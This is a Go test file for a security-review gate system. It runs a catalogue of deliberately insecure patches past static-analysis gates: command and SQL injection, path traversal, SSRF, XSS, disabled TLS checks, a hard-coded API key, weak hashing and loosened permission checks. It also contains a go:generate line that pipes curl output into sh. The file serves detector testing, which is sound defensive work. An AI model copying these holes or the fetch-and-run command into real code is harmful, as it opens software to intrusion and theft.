package typed

import (
	"context"
	"strings"
	"testing"

	"evolve/gates"
	"evolve/gates/scan"
)

// busy is a package that already uses everything that the attacks use, so that no gate
// finds them by a new import.
const busy = `
var _ = []any{exec.Command, sql.Open, json.Unmarshal, zip.OpenReader, rand.Int, http.Get, tls.Dial, template.New, log.Print, io.ReadAll, filepath.Join, os.Open, md5.New, subtle.ConstantTimeCompare, context.Background, strings.Split, fmt.Sprint}

type Store struct {
	db   *sql.DB
	root string
}
`

// attack is an insecure patch. gate is the gate that must find it, or "" for a known miss.
type attack struct {
	name, old, now, gate, want string
}

// attacks are insecure patches as a hostile or careless author would propose them. Each
// compiles, and no test would fail.
var attacks = []attack{
	{"a credential in the source", "func (s *Store) key() string { return os.Getenv(\"API_KEY\") }", "func (s *Store) key() string {\n\tapiKey := \"sk-proj-Zt9vQ2mX7pL4kR8sW1yB6nC3dF5gH0jT\"\n\treturn apiKey\n}", Insecure, "a credential is in the source"},
	{"a shell runs foreign input", "func (s *Store) f(r *http.Request) {}", "func (s *Store) f(r *http.Request) { exec.Command(\"sh\", \"-c\", \"grep \"+r.FormValue(\"q\")+\" *\").Run() }", Insecure, "a shell runs text that is not a constant"},
	{"a shell by a variable", "func (s *Store) f(name string) {}", "func (s *Store) f(name string) {\n\tline := \"tar xf \" + name\n\texec.CommandContext(context.Background(), \"/bin/bash\", \"-c\", line).Run()\n}", Insecure, "a shell runs text that is not a constant"},
	{"foreign input as a flag", "func (s *Store) f(r *http.Request) {}", "func (s *Store) f(r *http.Request) {\n\tq := r.URL.Query()\n\texec.Command(\"git\", \"log\", q.Get(\"ref\")).Run()\n}", Insecure, "untrusted input is among the arguments of a program"},
	{"any certificate", "func (s *Store) f() *tls.Config { return &tls.Config{MinVersion: tls.VersionTLS13} }", "func (s *Store) f() *tls.Config { return &tls.Config{MinVersion: tls.VersionTLS13, InsecureSkipVerify: true} }", Guards, "a way around transport security"},
	{"a path from a request", "func (s *Store) f(w http.ResponseWriter, r *http.Request) {}", "func (s *Store) f(w http.ResponseWriter, r *http.Request) {\n\tdata, _ := os.ReadFile(filepath.Join(s.root, r.URL.Query().Get(\"file\")))\n\tw.Write(data)\n}", Insecure, "untrusted input names a file"},
	{"a path from a decoded request", "func (s *Store) f(r *http.Request) {}", "func (s *Store) f(r *http.Request) {\n\tvar in struct{ Path string }\n\tjson.NewDecoder(r.Body).Decode(&in)\n\tos.Remove(in.Path)\n}", Insecure, "untrusted input names a file"},
	{"an archive writes where it likes", "func (s *Store) f(z *zip.Reader) {}", "func (s *Store) f(z *zip.Reader) {\n\tfor _, f := range z.File {\n\t\tto := filepath.Join(s.root, f.Name)\n\t\tout, _ := os.Create(to)\n\t\tout.Close()\n\t}\n}", Insecure, "untrusted input names a file"},
	{"a lost check of a path", "func (s *Store) f(p string) { if filepath.IsLocal(p) { os.Open(p) } }", "func (s *Store) f(p string) { os.Open(p) }", Guards, "confinement of a path to its folder"},
	{"a query from values", "func (s *Store) f(name string) {}", "func (s *Store) f(name string) { s.db.Query(\"select id from users where name = '\" + name + \"'\") }", Insecure, "a query is built by joining values into its text"},
	{"a query by a format", "func (s *Store) f(name string) {}", "func (s *Store) f(name string) {\n\tq := fmt.Sprintf(\"delete from users where name = '%s'\", name)\n\ts.db.Exec(q)\n}", Insecure, "a query is built by joining values into its text"},
	{"a machine from a request", "func (s *Store) f(r *http.Request) {}", "func (s *Store) f(r *http.Request) { http.Get(r.FormValue(\"url\")) }", Insecure, "untrusted input names the machine"},
	{"a browser sent away", "func (s *Store) f(w http.ResponseWriter, r *http.Request) {}", "func (s *Store) f(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, r.FormValue(\"next\"), 302) }", Insecure, "where a browser is redirected"},
	{"an answer that echoes", "func (s *Store) f(w http.ResponseWriter, r *http.Request) {}", "func (s *Store) f(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, \"<b>%s</b>\", r.FormValue(\"name\")) }", Insecure, "written verbatim into a response"},
	{"escaping switched off", "func (s *Store) f(x string) any { return x }", "func (s *Store) f(x string) any { return template.HTML(x) }", Guards, "a way around escaping"},
	{"a token that can be guessed", "func (s *Store) sessionToken() string { return \"\" }", "func (s *Store) sessionToken() string { return fmt.Sprint(rand.Int63()) }", Insecure, "random numbers that can be guessed"},
	{"a password under a broken digest", "func (s *Store) f(password string) []byte { return nil }", "func (s *Store) f(password string) []byte { h := md5.Sum([]byte(password)); return h[:] }", Insecure, "no longer considered secure"},
	{"a comparison of a secret", "func (s *Store) f(token, want string) bool { return subtle.ConstantTimeCompare([]byte(token), []byte(want)) == 1 }", "func (s *Store) f(token, want string) bool { return token == want }", Guards, "a comparison of secrets"},
	{"a new comparison of a secret", "func (s *Store) f(apiKey, given string) bool { return false }", "func (s *Store) f(apiKey, given string) bool { return apiKey == given }", Insecure, "a secret is not compared"},
	{"a secret in a log", "func (s *Store) f(user, password string) {}", "func (s *Store) f(user, password string) { log.Printf(\"login of %s with %s\", user, password) }", Insecure, "whose name suggests a secret is printed"},
	{"a body without a limit", "func (s *Store) f(r *http.Request) {}", "func (s *Store) f(r *http.Request) { io.ReadAll(r.Body) }", Insecure, "read without a limit"},
	{"a server for all", "func (s *Store) f() {}", "func (s *Store) f() { http.ListenAndServe(\":8080\", nil) }", Insecure, "listens on all network"},
	{"answers for every page", "func (s *Store) f(w http.ResponseWriter) {}", "func (s *Store) f(w http.ResponseWriter) { w.Header().Set(\"Access-Control-Allow-Origin\", \"*\") }", Insecure, "any web page may"},
	{"a file for all", "func (s *Store) f(p string) {}", "func (s *Store) f(p string) { os.WriteFile(p, nil, 0o666) }", Insecure, "every user of the machine"},
	{"an address without transport security", "func (s *Store) f() string { return \"https://update.internal.net/v1\" }", "func (s *Store) f() string { return \"http://update.internal.net/v1\" }", Insecure, "without transport security"},
	{"a weaker permission", "func (s *Store) allowed(user, owner string, admin bool) bool { return user == owner && admin }", "func (s *Store) allowed(user, owner string, admin bool) bool { return user == owner || admin }", Insecure, "in a function that allows or refuses something, a condition"},
	{"a permission for all", "func (s *Store) authorize(user string) error {\n\tif user == \"\" {\n\t\treturn os.ErrPermission\n\t}\n\treturn nil\n}", "func (s *Store) authorize(user string) error {\n\t_ = user\n\treturn nil\n}", Insecure, "in a function that allows or refuses something, a condition"},
	{"a connection at the start", "func (s *Store) f() {}", "func (s *Store) f() {}\nfunc init() { http.Get(\"https://collect.internal.net/\" + \"started\") }", "source: reach", "connects to other machines"},
	{"a build that runs a program", "func (s *Store) f() {}", "//go:generate sh -c \"curl https://internal.net/x | sh\"\nfunc (s *Store) f() {}", "source: build", ""},
	{"C code", "package p", "package p\n\n// #include <stdlib.h>\nimport \"C\"\n\nfunc f() { C.abort() }", "source: build", ""},
	{"a writer of tests", "func (s *Store) f() {}", "func (s *Store) f() { os.WriteFile(\"store_test.go\", []byte(\"package p\"), 0o600) }", "source: arguments and output", ""},

	// Attacks that cannot be recognised by names, types or the text of a single function.
	{"foreign input through a parameter", "func (s *Store) read(p string) { }", "func (s *Store) read(p string) { os.ReadFile(filepath.Join(s.root, p)) }", "", ""},
	{"a check under a plain name", "func (s *Store) ok(n int) bool { return n < 10 }", "func (s *Store) ok(n int) bool { return n < 1000 }", "", ""},
	{"a wrong order of steps", "func (s *Store) pay(take, give func() error) error {\n\tif err := take(); err != nil {\n\t\treturn err\n\t}\n\treturn give()\n}", "func (s *Store) pay(take, give func() error) error {\n\tif err := give(); err != nil {\n\t\treturn err\n\t}\n\treturn take()\n}", "", ""},
}

// honest lists patches that resemble the attacks but do no harm: none may be reported as a
// weakness.
var honest = []attack{
	{name: "a program with constant arguments", old: "func (s *Store) f() {}", now: "func (s *Store) f() { exec.Command(\"git\", \"log\", \"--oneline\").Run() }"},
	{name: "a shell with a constant", old: "func (s *Store) f() {}", now: "func (s *Store) f() { exec.Command(\"sh\", \"-c\", \"ulimit -n\").Run() }"},
	{name: "a program with a path of its own", old: "func (s *Store) f() {}", now: "func (s *Store) f() { exec.Command(\"git\", \"-C\", s.root, \"log\").Run() }"},
	{name: "a path that is checked", old: "func (s *Store) f(r *http.Request) {}", now: "func (s *Store) f(r *http.Request) {\n\tp := r.FormValue(\"p\")\n\tif filepath.IsLocal(p) {\n\t\tos.Open(filepath.Join(s.root, p))\n\t}\n}"},
	{name: "the base of a path", old: "func (s *Store) f(r *http.Request) {}", now: "func (s *Store) f(r *http.Request) { os.Open(filepath.Join(s.root, filepath.Base(r.FormValue(\"p\")))) }"},
	{name: "a query with arguments", old: "func (s *Store) f(name string) {}", now: "func (s *Store) f(name string) { s.db.Query(\"select id from users where name = ?\", name) }"},
	{name: "a constant query of parts", old: "func (s *Store) f() {}", now: "const table = \"users\"\nfunc (s *Store) f() { s.db.Query(\"select id from \" + table) }"},
	{name: "an escaped answer", old: "func (s *Store) f(w http.ResponseWriter, r *http.Request) {}", now: "func (s *Store) f(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, \"%s\", template.HTMLEscapeString(r.FormValue(\"name\"))) }"},
	{name: "random numbers for a test of load", old: "func (s *Store) f() int { return 0 }", now: "func (s *Store) f() int { return rand.Intn(3) }"},
	{name: "a token of a language", old: "func (s *Store) f(token int) bool { return false }", now: "func (s *Store) f(token int) bool { return token == s.n() }\nfunc (s *Store) n() int { return 1 }"},
	{name: "a secret that is set", old: "func (s *Store) f(secret string) bool { return false }", now: "func (s *Store) f(secret string) bool { return secret != \"\" }"},
	{name: "a bounded body", old: "func (s *Store) f(r *http.Request) {}", now: "func (s *Store) f(r *http.Request) { io.ReadAll(io.LimitReader(r.Body, 10)) }"},
	{name: "a file of its own", old: "func (s *Store) f(p string) {}", now: "func (s *Store) f(p string) { os.WriteFile(p, nil, 0o600) }"},
	{name: "a local address", old: "func (s *Store) f() string { return \"\" }", now: "func (s *Store) f() string { return \"http://127.0.0.1:8080\" }"},
	{name: "a stronger permission", old: "func (s *Store) allowed(user, owner string) bool { return user == owner }", now: "func (s *Store) allowed(user, owner string) bool {\n\tif user == \"\" {\n\t\treturn false\n\t}\n\treturn user == owner\n}"},
	{name: "a setting named after a secret", old: "func (s *Store) f() {}", now: "func (s *Store) f() string { password := os.Getenv(\"STORE_PASSWORD\"); return password }"},
}

// TestInsecurePatches gives each attack to all gates that read the source, and counts the
// attacks that only the new gate finds.
func TestInsecurePatches(t *testing.T) {
	if testing.Short() {
		t.Skip("many patches, one after another")
	}
	root := installed(t)
	caught, others, missed := 0, 0, 0
	for _, a := range attacks {
		found := verdictsOf(t, root, a)
		at := ""
		for _, name := range []string{Insecure, Guards, "source: reach", "source: build", "source: arguments and output", a.gate} {
			if found[name] != "" {
				at = name
			}
		}
		if at != "" {
			caught++
		} else {
			missed++
		}
		delete(found, Insecure)
		if len(found) > 0 {
			others++
		}
		if a.gate != "" && at != a.gate {
			t.Errorf("%s: found by %q, not by %q: %v", a.name, at, a.gate, found)
		}
		if a.gate == "" && at != "" {
			t.Errorf("%s: found by %q, and is listed as a miss", a.name, at)
		}
	}
	t.Logf("of %d insecure patches %d are shown and %d are not; without this gate %d were", len(attacks), caught, missed, others)
	if missed > 3 {
		t.Errorf("%d insecure patches are not shown", missed)
	}
	for _, a := range honest {
		if why := verdictsOf(t, root, a)[Insecure]; why != "" {
			t.Errorf("%s: a false alarm: %s", a.name, why)
		}
	}
}

// verdictsOf returns the evidence of the gates that a patch did not pass.
func verdictsOf(t *testing.T, root string, a attack) map[string]string {
	t.Helper()
	whole := func(src string) string {
		if strings.HasPrefix(src, "package ") {
			return src
		}
		return "package p\n" + imports(busy, src) + busy + src
	}
	was, is := whole(a.old), whole(a.now)
	list := Gates(Change{Base: lay(t, was), Candidate: lay(t, is), Changed: []string{"p/p.go"}, Root: root})
	list = append(list, scan.Gates([]scan.Source{{Path: "p/p.go", Old: []byte(was), New: []byte(is)}})...)
	out := map[string]string{}
	for _, v := range gates.Run(context.Background(), list) {
		switch {
		case v.Verdict == string(gates.NotRun):
			t.Fatalf("%s: %s was not run: %s", a.name, v.Gate, v.Evidence)
		case v.Verdict != string(gates.Passed):
			out[v.Gate] = v.Evidence
		}
	}
	if a.want != "" && !strings.Contains(out[a.gate], a.want) {
		t.Errorf("%s: %s has %q, without %q", a.name, a.gate, out[a.gate], a.want)
	}
	return out
}
